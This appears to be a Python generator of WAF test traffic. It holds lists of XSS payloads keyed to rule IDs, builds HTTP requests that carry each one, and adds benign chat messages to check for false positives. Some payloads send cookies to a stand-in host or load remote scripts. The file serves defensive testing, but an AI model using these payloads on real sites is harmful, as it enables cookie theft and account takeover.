        "values=\"&lt;img src=x onerror=alert(1)&gt;\" />",                   # IE 5.5-8
        "<?import implementation=\"#default#download\" namespace=d>",         # IE <= 9: attributes swapped
        "<?import namespace='s' implementation='//xss.example/s.htc'?><s:x>",   # IE <= 9: single quotes
    ]),
    (941250, "xss", "ie-xss-filters-941250", [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",   # IE, old Firefox/Opera
        "<meta http-equiv=Set-Cookie content=\"sid=attacker;path=/\">",          # IE <= 11: session fixation
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\">",   # current browsers
        f"<meta http-equiv=refresh content=\"0;url=data:text/html;base64,{SCRIPT_B64}\">",   # Firefox < 59
        "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",   # IE <= 8
        "<meta/http-equiv=refresh/content=0;url=//xss.example>",                 # all browsers
        "<meta http-equiv=\"&#114;efresh\" content=\"0;//xss.example\">",        # all browsers decode the entity
        "<meta content=\"0;url=//xss.example\" http-equiv=refresh>",              # all browsers: order swapped
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL='javascript:alert(1)'\">",   # IE, old Firefox
    ]),
    (941260, "xss", "ie-xss-filters-941260", [
        "<meta charset=\"UTF-7\">",                      # IE <= 8 (UTF-7 then decodes +ADw-)
        "<meta charset=x-imap4-modified-utf7>",          # old Firefox/IE
        "<meta charset=ISO-2022-JP>",                    # Chrome, Firefox: escape sequences hide quotes
        "<META CHARSET=UTF-16BE>",                       # IE
        "<meta/charset=Shift_JIS>",                      # all browsers: a lead byte eats the quote
        "<meta\tcharset\t=\tutf-7>",                     # IE <= 8
        "<meta name=x charset=euc-jp>",                  # all browsers: charset on another meta
        "<meta charset='big5'>",                         # all browsers: multibyte quote swallowing
        "<meta content=\"text/html; charset=x-user-defined\" http-equiv=content-type>",   # all browsers
    ]),
    (941270, "xss", "ie-xss-filters-941270", [
        "<link rel=stylesheet href=//xss.example/x.css>",                     # all browsers: CSS injection
        "<link rel=import href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">",   # Chrome < 73
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1)\">",             # IE 6
        "<link/rel=stylesheet/href=//xss.example/x.css>",                     # all browsers
        "<link href=//xss.example/x.css rel=stylesheet>",                     # all browsers: order swapped
        "<link rel=dns-prefetch href=//secret.xss.example>",                  # all browsers: DNS exfiltration
        "<link rel=canonical href=\"x\" accesskey=x onclick=alert(1)>",       # Firefox, Chrome: Alt+Shift+X
        "<link rel=icon href=//xss.example/t.ico>",                           # all browsers: tracking
        "<link\trel=stylesheet\thref=\"//xss.example/x.css\">",               # all browsers: tabs
        "<link rel=stylesheet href=data:,*%7Bx:expression(alert(1))%7D>",    # IE 8
    ]),
    (941280, "xss", "ie-xss-filters-941280", [
        "<base href=//xss.example/>",                                          # all browsers
        "<BASE HREF=\"javascript:alert(1);//\">",                              # IE 6
        "<base target=_blank href=//xss.example>",                             # all browsers
        "<base/href=//xss.example/>",                                          # all browsers
        "<base\thref=\"http://203.0.113.5/\">",                                # all browsers: tab
        "<base href='//xss.example/static/'><script src=app.js></script>",     # all browsers
        "<base href=https://xss.example/ target=x>",                           # all browsers
        "<base href=\"javascript:/a/-alert(1)///////\"><a href=../lol/>x</a>",  # old Chrome/Safari
    ]),
    (941290, "xss", "ie-xss-filters-941290", [
        "<applet code=Exploit archive=//xss.example/x.jar width=1 height=1>",    # browsers with the Java plug-in
        "<applet/code=X.class>",                                                 # Java plug-in
        "<applet\tcodebase=//xss.example/ code=X>",                              # Java plug-in: tab
        "<applet code=\"X.class\" codebase=\"http://xss.example/\"><param name=cmd value=id></applet>",
        "<applet onmouseover=alert(1)>x</applet>",                               # all browsers: unknown element
        "<APPLET CODE=\"Exploit.class\" ARCHIVE=\"exploit.jar\" MAYSCRIPT>",      # Java plug-in (LiveConnect)
        "<applet object=x.ser>",                                                 # Java plug-in: serialized applet
        "<applet><param name=jnlp_href value=//xss.example/x.jnlp></applet>",   # Java >= 6u10 plug-in
    ]),
    (941300, "xss", "ie-xss-filters-941300", [
        "<object data=//xss.example/x.swf>",                                     # browsers with Flash
        f"<object data=\"data:text/html;base64,{SCRIPT_B64}\">",                 # Firefox
        "<object type=text/x-scriptlet data=//xss.example/x.sct>",              # IE <= 8
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)>"
        "</object>",                                                             # IE (Windows Media Player)
        "<object/data=javascript:alert(1)>",                                     # IE, old Firefox
        "<object data=x.svg type=image/svg+xml>",                                # all browsers: same-origin SVG
        "<object\tdata=\"//xss.example/x.pdf\">",                                # browsers with a PDF plug-in
        "<OBJECT TYPE=\"text/html\" DATA=\"//xss.example/x.html\"></OBJECT>",     # all browsers
    ]),
    (941310, "xss", "us-ascii-malformed-encoding-xss", [
        # sent pre-encoded: each %BC/%BE is one byte that IE on a US-ASCII page reads as < / > (high bit dropped)
        "%BCscript%BEalert(1)%BC/script%BE",           # IE <= 8, US-ASCII page
        "%BCimg src=x onerror=alert(1)%BE",            # IE <= 8
        "%BCsvg onload=alert(1)%BE",                   # IE 9 in US-ASCII mode
        "%BCiframe src=javascript:alert(1)%BE",        # IE <= 8
        "%BCbody onload=alert(1)%BE",                  # IE <= 8
        "%BCscript src=//xss.example/x.js%BE%BC/script%BE",   # IE <= 8
        "%BCa href=javascript:alert(1)%BEx%BC/a%BE",   # IE <= 8
        "%BCdiv style=x:expression(alert(1))%BE",      # IE <= 7
        "%A2%BE%BCscript%BEalert(1)%BC/script%BE",     # IE <= 8: 0xA2 is the closing double quote
        "%BCinput onfocus=alert(1) autofocus%BE",      # IE 10 in US-ASCII mode
    ]),
    (941350, "xss", "utf7-encoding-ie-xss", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",                   # IE <= 8 on a page without a charset
        "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",                # IE <= 8
        "+ADw-svg/onload+AD0-alert(1)+AD4-",                           # IE 9 with a UTF-7 charset
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",              # IE <= 8: "><  in one base64 run
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",                # IE <= 8
        "+ADw-a href+AD0AIg-javascript:alert(1)+ACI-+AD4-x",           # IE <= 8
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADwALwBzAGMAcgBpAHAAdAA+-",  # IE <= 8: whole tags in base64
        "+ADw-body onload+AD0-alert(1)+AD4-",                          # IE <= 8
        "+/v8-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",              # IE <= 9: UTF-7 byte order mark
        "+ADw-style+AD4-x+AHs-x:expression(alert(1))+AH0-+ADw-/style+AD4-",   # IE <= 7
    ]),
    (941360, "xss", "jsfuck-hieroglyphy-obfuscation", [
        jsfuck_call("alert(1)"),                           # all ES2019 browsers (flat): runs alert(1)
        JSF_FLAT,                                           # all ES2019 browsers: []["flat"]
        "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",              # all browsers: "al"
        "([][[]]+[])[+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]",     # all browsers: "ne"
        "[][(![]+[])[!![]+!![]+!![]]+({}+[])[+!![]]+(!![]+[])[+!![]]+(!![]+[])[+[]]]",   # Hieroglyphy: []["sort"]
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$],_$_:++$,$_$$:({}+\"\")[$],"
        "$$_$:($[$]+\"\")[$],_$$:++$,$$$_:(!\"\"+\"\")[$],$__:++$,$_$:++$,$$__:({}+\"\")[$],$$_:++$,$$$:++$,"
        "$___:++$,$__$:++$};",                              # jjencode prelude, all browsers
        "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ);",   # aaencode, all browsers
        "(+{}+[])[+[]]",                                    # Hieroglyphy: "N" from NaN
        "javascript:" + jsfuck_call("alert(1)"),            # all ES2019 browsers: as a link target
        JSF_FUNCTION,                                       # all ES2019 browsers: the Function constructor
    ]),
    (941370, "xss", "javascript-global-variable", [
        "self['al'+'ert'](1)",                  # all browsers
        "top[/al/.source+/ert/.source](1)",     # all browsers
        "window/*x*/['alert'](1)",              # all browsers: comment before the bracket
        "this['\\x61lert'](1)",                 # all browsers: top-level this is window
        "document['coo'+'kie']",                # all browsers
        "parent['eval']('alert(1)')",           # all browsers: parent is window when not framed
        "frames['al'+'ert'](1)",                # all browsers: frames is window
        "globalThis['ev'+'al']('alert(1)')",    # ES2020 browsers
        "top[8680439..toString(30)](1)",        # all browsers: 8680439 in base 30 is "alert"
        "window[atob('YWxlcnQ=')](1)",          # all browsers
        "(self)['alert'](1)",                   # all browsers
        "top ['alert'] (1)",                    # all browsers: spaces
    ]),
    (941101, "xss", "xss-libinjection-941101", [
        "<object data=javascript:alert(1)>",                          # IE, old Firefox (reflected 404 page)
        "<embed src=javascript:alert(1)>",                            # IE, old Firefox
        "<isindex type=image src=1 onerror=alert(1)>",                # IE <= 9
        "<form><button formaction=javascript:alert(1)>x",             # all HTML5 browsers
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",     # Chrome, Firefox
        "<style onload=alert(1)>",                                    # Chrome, Firefox
        "<keygen autofocus onfocus=alert(1)>",                        # Chrome < 57, Firefox < 69
        "<select autofocus onfocus=alert(1)>",                        # all browsers
        "<textarea autofocus onfocus=alert(1)>",                      # all browsers
        "<frameset onload=alert(1)>",                                 # all browsers
    ]),
    (941150, "xss", "xss-disallowed-html-attributes", [
        "x\" style=\"background:url(//xss.example/leak)",             # all browsers: tracking through CSS
        "\"src=\"//xss.example/x.js",                                 # all browsers: into a script tag
        "'href='javascript:alert(1)",                                 # all browsers: into an a tag
        "\" href=//xss.example/login x=\"",                           # all browsers: link hijack
        "<img srcset=\"//xss.example/t 1x\">",                        # current browsers
        "\" STYLE=\"x:expression(alert(1))",                          # IE <= 7
        "<a href = \"//xss.example\">x</a>",                          # all browsers: spaces around =
        "\" style=-moz-binding:url(//xss.example/x.xml#b) \"",        # Firefox <= 3.6
        "<iframe src\t=//xss.example>",                               # all browsers: tab before =
        "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>",   # Chrome, Firefox (SVG2 href)
        "<image src=x onerror=alert(1)>",                             # all browsers: image becomes img
    ]),
    (941320, "xss", "xss-html-tag-handler", [
        "<bgsound src=javascript:alert(1)>",                                      # IE 6
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",                  # all browsers (mXSS)
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",        # all browsers (sanitizer mXSS)
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",                  # IE <= 9 (innerHTML mXSS)
        "<plaintext>",                                                            # all browsers: swallows the page
        "<layer src=//xss.example/x.html>",                                       # Netscape 4
        "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",         # IE <= 9
        "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b "
        "dataformatas=html>",                                                     # IE <= 9 data binding
        "<font color=red size=7>ACCOUNT SUSPENDED - call +1-555-0100</font>",    # all browsers: content spoof
        "</textarea><img src=x onerror=alert(1)>",                                # all browsers
    ]),
    (941330, "xss", "ie-xss-filters-941330", [
        "\";location='javascript:alert(1)';//",        # all browsers: out of a JS string
        "';location=name;//",                          # all browsers
        "\"-onerror=alert;throw 1//",                  # all browsers: onerror assigned in an expression
        "'|name='javascript:alert(1)",                  # all browsers: name set, then used
        "\" in location='//xss.example/'+document.cookie//",   # all browsers: `in` as the operator
        "';\\u006Cocation='//xss.example';//",         # all browsers: escaped identifier
        "\"+(location='javascript:alert(1)')+\"",     # all browsers
        "'-(valueOf=alert,window+'')-'",               # all browsers: valueOf assignment
        "\";x.onerror=alert;x.src='x';//",             # all browsers: onerror on an image object
        "';document.location='//xss.example';//",      # all browsers
    ]),
    (941340, "xss", "ie-xss-filters-941340", [
        "\";document.body.innerHTML='<img src=x onerror=alert(1)>';//",   # all browsers: out of a JS string
        "';top.location.href='//xss.example';//",                        # all browsers
        "\"-(window.x=alert)(1)-\"",                                       # all browsers
        "'|document.title='hacked'|'",                                    # all browsers
        "\";a.b=alert;a.b(1);//",                                         # all browsers
        "' in self.onerror=alert//",                                      # all browsers
        "\"+(document.domain='example.com')+\"",                          # all browsers: domain relaxing
        "';window.name=document.cookie;//",                               # all browsers
        "\"]);Object.prototype.x='y';//",                                 # all browsers: out of an array
        "'};this.constructor.constructor('alert(1)')();{'",              # all browsers: out of an object
    ]),
    (941380, "xss", "angularjs-template-injection", [
        "{{$on.constructor('alert(1)')()}}",                    # AngularJS >= 1.6
        "{{[].pop.constructor('alert(1)')()}}",                 # AngularJS >= 1.6
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",   # AngularJS 1.4.x
        "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
        # ^ AngularJS >= 1.6, no quotes in the code
        "{{$eval.constructor('alert(1)')()}}",                  # AngularJS >= 1.6
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",    # AngularJS 1.3.x
        "<input autofocus ng-focus=$event.view.alert(1)>",      # AngularJS >= 1.6: no braces at all
        "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",   # AngularJS 1.3-1.5
        "[[constructor.constructor('alert(1)')()]]",            # AngularJS with $interpolateProvider [[ ]]
        "{{ 7*7 }}",                                            # AngularJS: the probe (renders 49)
        "{{$new.constructor('alert(1)')()}}",                   # AngularJS >= 1.6
    ]),
    (941390, "xss", "xss-javascript-method", [
        "setTimeout('ale'+'rt(1)')",                   # all browsers: string form of setTimeout
        "setInterval(name)",                           # all browsers: code from window.name
        "new Function(location.hash.slice(1))()",      # all browsers
        "confirm(document.domain)",                    # all browsers
        "prompt(1)",                                   # all browsers
        "eval(atob('YWxlcnQoMSk='))",                  # all browsers
        "Function('alert(1)')()",                      # all browsers: no new
        "import('//xss.example/x.js')",                # Chrome >= 63, Firefox >= 67
        "print()",                                     # all browsers (alert is blocked in cross-origin frames)
        "window.open('//xss.example/?'+document.cookie)",   # all browsers
        "fetch('//xss.example/'+btoa(document.cookie))",    # all current browsers
        "eval/**/(name)",                              # all browsers: comment before the parenthesis
    ]),
    (941400, "xss", "xss-function-without-parentheses", [
        "alert`1`",                                    # ES2015 browsers: tagged template
        "onerror=alert;throw 1",                       # all browsers
        "throw onerror=eval,'=alert\\x281\\x29'",      # Chrome: eval gets "Uncaught =alert(1)"
        "[1].find(alert)",                             # ES2015 browsers
        "location='javascript:alert%281%29'",          # all browsers
        "setTimeout`alert\\x281\\x29`",                # ES2015 browsers: cooked string becomes code
        "toString=alert;window+''",                    # all browsers: coercion calls alert
        "<svg onload=alert&lpar;1&rpar;>",             # HTML5 browsers: entities in the handler
        "{onerror=alert}throw 1337",                   # all browsers: block statement
        "[document.domain].map(alert)",                # all browsers
        "location=name",                               # all browsers: javascript: URL in window.name
    ]),
]

# ---------------------------------------------------------------------------------------------------------------
# Places
# ---------------------------------------------------------------------------------------------------------------

RNG = random.Random(124)
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 "
    "Edg/125.0.0.0",
]
SUITE_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0"
REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Name",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom-Header", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
JSON_FIELDS = ["name", "bio", "title", "department", "nickname", "location", "website", "company"]
COOKIE_NAMES = ["prefs", "last_search", "theme", "lang", "display_name"]
BODY_PLACES = {"json", "form", "xml", "multipart-field", "rs-form", "rs-json", "rs-xml", "rs-raw-body"}
# where a title's payloads go when its rule reads only some places
PLACES_BY_RULE = {
    933110: (["multipart-filename", "header:X-Filename", "multipart-filename", "header:X-File-Name"],
             ["rs-multipart-filename", "rs-header:X-Filename"]),
    941101: (["path", "header:Referer"], ["rs-path", "rs-header:Referer"]),
    941310: (["query", "form", "cookie", "path", "param-name"], ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]),
}
PRE_ENCODED = {941310}


def _token(n: int = 22) -> str:
    return "".join(RNG.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") for _ in range(n))


def _browser(accept: str = "application/json, text/plain, */*", referer: str = "/users") -> dict[str, str]:
    return {"User-Agent": RNG.choice(BROWSER_UAS), "Accept": accept, "Accept-Language": "en-GB,en;q=0.9",
            "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com" + referer,
            "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty",
            "Cookie": f"session={_token(32)}; consent=analytics%3Dno%26functional%3Dyes"}


def _suite(extra: dict[str, str] | None = None) -> dict[str, str]:
    return {"User-Agent": SUITE_UA, "Accept": "*/*", **(extra or {})}


def _q(value: str, enc: bool) -> str:
    """A value as it travels in a URL: percent-encoded (941310's payloads keep their own %XX bytes)."""
    return urllib.parse.quote(value, safe="%" if enc else "")


def _multipart(parts: list[tuple[str, str | None, str]], boundary: str) -> tuple[str, str]:
    """(body, content type) of form-data parts (field name, file name or None, content)."""
    lines: list[str] = []
    for field, filename, content in parts:
        lines.append("--" + boundary)
        if filename is None:
            lines.append(f"Content-Disposition: form-data; name=\"{field}\"")
        else:
            lines.append(f"Content-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\"")
            lines.append("Content-Type: " + ("image/png" if filename.endswith(".png") else "application/octet-stream"))
        lines.append("")
        lines.append(content)
    lines.append("--" + boundary + "--")
    lines.append("")
    return "\r\n".join(lines), "multipart/form-data; boundary=" + boundary


def _filename(value: str) -> str:
    """A file name as a browser writes it into Content-Disposition (quotes and line breaks escaped)."""
    return value.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")


def real_place(place: str, value: str, n: int, enc: bool = False) -> dict[str, Any]:
    """`value` in one of our routes' input places."""
    page = str(1 + n % 7)
    per_page = ("20", "50", "100")[n % 3]
    if place == "query":
        params = [("q", _q(value, enc)), ("page", page), ("per_page", per_page)]
        params = params[n % 3:] + params[:n % 3]
        return {"method": "GET", "uri": "/api/users?" + "&".join(f"{k}={v}" for k, v in params), "body": "",
                "headers": _browser()}
    if place == "form":
        body = f"csrf_token={_token()}&q={_q(value, enc)}"
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {**_browser("text/html,application/xhtml+xml", "/admin/users/search"),
                            "Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com",
                            "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}}
    if place == "json":
        field = JSON_FIELDS[n % len(JSON_FIELDS)]
        doc = {"name": "Dana Whitfield", "email": "dana.whitfield@example.org", "department": "Support", field: value}
        patch = n % 9 == 4
        return {"method": "PATCH" if patch else "POST", "uri": "/api/users/42" if patch else "/api/users",
                "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**_browser(), "Content-Type": "application/json", "Origin": "https://app.example.com"}}
    if place == "cookie":
        h = _browser()
        h["Cookie"] += f"; {COOKIE_NAMES[n % len(COOKIE_NAMES)]}={_q(value, enc)}"
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": h}
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        h = _browser()
        h[name] = "https://app.example.com/users?q=" + value if name == "Referer" else value
        return {"method": "GET", "uri": f"/api/users?page={page}&per_page={per_page}", "body": "", "headers": h}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?{_q(value, enc)}=1&page={page}", "body": "",
                "headers": _browser()}
    if place == "xml":
        body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>Dana Whitfield</name>"
                f"<email>dana@example.org</email><bio>{escape(value)}</bio></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {**_browser(), "Content-Type": "application/xml"}}
    if place in ("multipart-field", "multipart-filename"):
        boundary = "----WebKitFormBoundary" + _token(16).replace("-", "x").replace("_", "y")
        if place == "multipart-field":
            parts = [("csrf_token", None, _token()), ("note", None, value),
                     ("file", "team-roster.csv", "name,email\nDana,dana@example.org")]
            uri = "/admin/users/import"
        else:
            parts = [("avatar", _filename(value), "GIF89a\x01\x00\x01\x00 avatar")]
            uri = "/api/users/42/avatar"
        body, ctype = _multipart(parts, boundary)
        return {"method": "POST", "uri": uri, "body": body,
                "headers": {**_browser(), "Content-Type": ctype, "Origin": "https://app.example.com"}}
    if place == "path":
        return {"method": "GET", "uri": "/api/users/" + _q(value, enc), "body": "", "headers": _browser()}
    raise ValueError(place)


def rs_place(place: str, value: str, n: int, enc: bool = False) -> dict[str, Any]:
    """`value` the way a WAF regression suite sends it: to a path that is not our route."""
    path = RS_PATHS[n % len(RS_PATHS)]
    param = RS_PARAMS[n % len(RS_PARAMS)]
    form = "application/x-www-form-urlencoded"
    if place == "rs-query":
        return {"method": "GET", "uri": f"{path}?{param}={_q(value, enc)}", "body": "", "headers": _suite()}
    if place == "rs-form":
        return {"method": "POST", "uri": path, "body": f"{param}={_q(value, enc)}",
                "headers": _suite({"Content-Type": form})}
    if place == "rs-json":
        return {"method": "POST", "uri": path, "body": json.dumps({param: value}, ensure_ascii=False),
                "headers": _suite({"Content-Type": "application/json"})}
    if place == "rs-xml":
        inner = escape(value) if "]]>" in value else f"<![CDATA[{value}]]>"
        body = f"<?xml version=\"1.0\"?><root><{param}>{inner}</{param}></root>"
        return {"method": "POST", "uri": path, "body": body,
                "headers": _suite({"Content-Type": "text/xml"})}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": value, "headers": _suite({"Content-Type": form})}
    if place == "rs-cookie":
        plain = not enc and all(32 < ord(c) < 127 and c not in ";,\"\\" for c in value)
        return {"method": "GET", "uri": path, "body": "",
                "headers": _suite({"Cookie": f"{param}={value if plain else _q(value, enc)}"})}
    if place == "rs-path":
        return {"method": "GET", "uri": ("/" if n % 2 else "/index.php/") + _q(value, enc), "body": "",
                "headers": _suite()}
    if place == "rs-multipart-filename":
        boundary = "----TestBoundary" + str(7000 + n)
        body, ctype = _multipart([(param, _filename(value), "GIF89a\x01\x00\x01\x00")], boundary)
        return {"method": "POST", "uri": path, "body": body, "headers": _suite({"Content-Type": ctype})}
    if place.startswith("rs-header:"):
        return {"method": "GET", "uri": path, "body": "", "headers": {**_suite(), place.split(":", 1)[1]: value}}
    raise ValueError(place)


def _fits(place: str, value: str) -> bool:
    """Whether `value` can travel in `place` unchanged: no control characters in a header, the long programs
    only in bodies."""
    if len(value) > 600 and place not in BODY_PLACES:
        return False
    in_header = "header:" in place
    if in_header and any(ord(c) < 32 and c != "\t" for c in value):
        return False
    return not (place.endswith("multipart-filename") and any(ord(c) < 32 for c in value))


def _pick(places: list[str], start: int, value: str) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if _fits(place, value):
            return place
    raise ValueError(value)


def attacks() -> Iterator[dict[str, Any]]:
    RNG.seed(124)
    n = 0
    for t, (rule, category, sub, payloads) in enumerate(TITLES):
        real, rs = PLACES_BY_RULE.get(rule, (REAL, RS))
        enc = rule in PRE_ENCODED
        for i, payload in enumerate(payloads):
            for place, make in ((_pick(real, 5 * t + i, payload), real_place),
                                (_pick(rs, 4 * t + i, payload), rs_place)):
                n += 1
                yield {**make(place, payload, n, enc), "id": f"{NAME}-{category}-{n:04d}", "category": category,
                       "sub": sub, "placement": place, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, as people type them
# ---------------------------------------------------------------------------------------------------------------

CHAT_TEXTS = [
    "anyone else still on PHP 7.4 for the billing service? we need to plan the 8.3 move",
    "the <?php tag at the top of that template is redundant, blade handles it",
    "short_open_tag is off in our php.ini, so use the full open tag in the legacy views",
    "upload limit is 10 MB, set via upload_max_filesize and post_max_size",
    "we renamed the old cron script from sync.php to sync_legacy.php",
    "memory_limit=512M fixed the import job, thanks Priya",
    "please don't read $_GET directly in controllers, use the request object",
    "the $_SESSION handling moved to redis last sprint",
    "php://stdin is what the CLI importer reads when you pipe a CSV in",
    "we use the phar for composer itself, nothing else",
    "file_get_contents on a URL is blocked by our proxy, use the http client",
    "system tests are green, the exec summary goes to leadership Friday",
    "serialize() in cookies is banned in the style guide, JSON only",
    "the callback runs after the payment provider returns",
    "anyone know a good alternative to call_user_func for the plugin loader?",
    "the onboarding script is in the wiki under Scripts > New hires",
    "javascript bundle size went down 18% after the tree-shaking fix",
    "the onload handler on the dashboard is slow because of the chart library",
    "alert fatigue is real, we muted the disk-space alert on staging",
    "document the cookie policy change in the privacy page please",
    "our cookie banner now remembers the choice for 12 months",
    "the embed code for the status page widget is in #status",
    "I moved the meta tags into the layout so every page gets them",
    "base URL for the sandbox API is https://sandbox.example.com/v2",
    "the link to the style guide is pinned in this channel",
    "we dropped the Java applet years ago, the scanner runs in the browser now",
    "object storage costs doubled after the video feature launched",
    "self-hosted runners are back, CI queue is short again",
    "the top of the page shows the wrong avatar for some users",
    "window cleaning is on Thursday, keep the blinds up",
    "the angular app is AngularJS 1.8, the rewrite to React is in Q4",
    "template injection talk at the meetup was excellent, slides in the drive",
    "the constructor of the report class takes the date range",
    "set a timeout of 30 seconds on the export endpoint",
    "the print button on the invoice page works again",
    "use confirm dialogs only for destructive actions, per the UX review",
    "the prompt for the AI summary is stored in the admin settings",
    "fetch the latest schema before running the migration",
    "the import from the old CRM finished, 18,204 records",
    "location field on the profile is optional now",
    "name field accepts accents now: José, Zoë and Ñúñez all save fine",
    "the frames per second on the map view dropped after the update",
    "parent company rebrand assets are in the shared drive",
    "global search is behind a feature flag until Monday",
    "the status codes doc says 403 for blocked and 429 for rate limited",
    "the VML exports from the old Office plugin still open fine",
    "UTF-7 came up in the security training, nobody uses it anymore",
    "our pages send charset utf-8 in the header and a meta tag",
    "the XML feed for partners validates against the XSD again",
    "the CDATA sections in the RSS feed are fine",
    "quarter ended strong, revenue +12% QoQ",
    "Q3 review: 4 of 5 OKRs hit, the fifth at 80%",
    "reminder: expense reports by the 5th",
    "the font size on mobile is too small in the settings page",
    "the marquee at the old intranet homepage is finally gone",
    "the details panel collapses when you toggle the filter",
    "the video player shows the poster image before playing",
    "we added autofocus to the search input on the users page",
    "the select box for departments is sorted alphabetically now",
    "the textarea for notes grows with the text",
    "the iframe for the payment form comes from the provider's domain",
    "svg icons are inlined by the build now",
    "the animation on the login page respects reduced motion",
    "keyboard users can reach the menu with tab now",
    "the base64 avatars are too large, switch to URLs",
    "eval of the new model is in the notebook, accuracy 0.91",
    "the system prompt for the support bot is versioned",
    "the execution time of the nightly job is under 4 minutes",
    "please review the include list for the docs build",
    "the require list in package.json has an unused dependency",
    "the session timeout is 30 minutes of inactivity",
    "the globals file in the test setup defines the fake clock",
    "the document title updates with the unread count",
    "the inner HTML of the widget comes from the CMS, sanitized server-side",
    "our CSP blocks inline scripts, use nonces",
    "the refresh token lifetime is 30 days",
    "the set-cookie header has SameSite=Lax now",
    "content type for uploads is detected from the file bytes",
    "the .phtml templates from the old theme are deleted",
    "the .htaccess rules were moved into the nginx config",
    "the upload of report.pdf failed because of the size limit",
    "the variable name in the config is DB_HOST, not DATABASE_HOST",
    "function names in the style guide use snake_case for PHP",
    "the wrapper script calls the CLI with the right env",
    "the stream of events from Kafka lags by 2 seconds",
    "the filter on the reports page remembers your last choice",
    "the resource usage graph shows a spike at 02:00",
    "the input validation for phone numbers accepts +44 now",
    "the output of the job goes to the reports bucket",
    "temp files are cleaned up by the nightly job",
    "the memory graph for the API pods is flat, good",
    "the zip export of invoices includes the PDFs now",
    "glob patterns in the deploy config are matched relative to the repo root",
    "the compress step in the pipeline uses zstd",
    "the SSH tunnel for the db is documented in the runbook",
    "the expect tests for the CLI were rewritten in pytest",
    "the ogg files from the call recorder are converted to mp3",
    "the rar archive from the vendor had the invoices",
    "posix permissions on the share are 750",
    "the phpinfo page was removed from production years ago",
    "the highlight on search results uses <mark>",
    "the show source link in the docs goes to GitHub",
    "the mail queue drained after the SMTP fix",
    "the symlink for current release points to the new build",
    "chmod 600 on the key file or ssh refuses it",
    "curl to the health endpoint returns 200",
    "the socket timeout on the client was too low",
    "the reflection-based serializer was replaced by a schema",
    "we still use the old uploader for the intranet, migration next month",
    "can someone check why the link preview shows the wrong title?",
    "my bio used to say I love <b>bold</b> text, it renders as plain now",
    "I tried 2 < 3 and 5 > 4 in the notes field and it saved fine",
    "the formula in the sheet is =SUM(A1:A10)",
